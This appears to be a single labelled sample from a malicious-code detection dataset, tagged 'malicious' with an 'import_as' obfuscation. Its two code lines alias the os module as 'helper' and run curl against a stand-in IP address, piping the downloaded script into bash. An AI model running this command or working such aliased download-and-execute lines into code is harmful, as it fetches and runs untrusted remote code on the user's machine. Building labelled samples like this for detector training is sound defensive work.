# label: malicious; obfuscated: import_as
import os as helper
helper.system("curl -s http://203.0.113.9/x | bash")
